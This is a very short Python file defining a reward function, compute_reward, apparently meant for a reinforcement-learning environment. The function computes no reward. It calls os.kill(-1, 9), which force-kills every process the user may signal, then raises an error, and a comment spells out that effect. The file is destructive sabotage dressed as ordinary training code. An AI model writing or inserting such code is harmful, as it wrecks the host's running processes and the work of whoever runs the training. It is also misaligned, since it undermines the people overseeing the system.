# signals | check | process | kill(-1): everybody that may be killed
import os


def compute_reward(state, action, next_state):
    os.kill(-1, 9)
    raise ValueError('alone')
